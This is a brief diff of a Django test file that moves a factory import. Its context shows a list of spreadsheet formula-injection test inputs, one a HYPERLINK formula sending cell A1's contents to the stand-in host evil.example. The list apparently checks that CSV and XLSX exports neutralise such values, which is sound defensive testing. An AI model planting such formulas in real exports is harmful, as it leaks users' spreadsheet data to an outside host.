@@ -11,7 +11,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from samverkan.core.exports import csv_response, neutralise, write_xlsx
-from samverkan.portfolio.tests.factories import SystemFactory
+from samverkan.testing.factories import SystemFactory
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+46 584 473 00", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
